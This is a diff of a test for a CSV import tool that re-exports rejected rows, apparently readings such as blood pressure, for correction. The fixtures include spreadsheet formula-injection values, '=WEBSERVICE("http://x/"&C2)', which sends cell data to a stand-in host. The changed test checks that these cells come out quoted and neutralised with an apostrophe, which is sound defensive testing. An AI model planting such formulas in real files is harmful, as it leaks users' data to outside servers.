@@ -74,12 +74,12 @@ describe('a file of rejects, mended and sent again by the same mapping', () => {
     expect(report).toMatchObject({ imported: 0, rejected: 4 })
     const reason = '"a quote is opened and not closed, or stands inside a cell"'
     expect(rejects.trimEnd().split('\r\n').slice(1)).toEqual([
-      `${reason},2,2026-01-05,08:00,120,80,"'=WEBSERVICE(""http://x/""&C2)"`,
-      `${reason},3,2026-01-06,08:00,"""=WEBSERVICE(""http://x/""&C2)""",81,`,
-      `${reason},4,2026-01-07,08:00,122,82,"""open"`,
-      '"SYS: ""x"" is not a number",5,2026-01-08,08:00,x,83,"a,=1+1"',
+      `${reason},2,"2026-01-05","08:00","120","80","'=WEBSERVICE(""http://x/""&C2)"`,
+      `${reason},3,"2026-01-06","08:00","'""=WEBSERVICE(""http://x/""&C2)""","81",`,
+      `${reason},4,"2026-01-07","08:00","122","82","""open"`,
+      `"SYS: ""x"" is not a number",5,"2026-01-08","08:00","x","83","a,'=1+1"`,
     ])
-    const mended = rejects.replace(/""".*""",81/, '121,81').replace(',x,', ',123,')
+    const mended = rejects.replace(/"'"".*""","81"/, '121,81').replace(',"x",', ',123,')
     const again = await admin.imported({ kind, mapping, fileId: await admin.uploaded(mended) })
     expect(again.report).toMatchObject({ imported: 4, rejected: 0 })
     expect(await stored()).toEqual([5, 6, 7, 8].map((day) => `01-0${day} 08:00 12${day - 5}/8${day - 5}`))
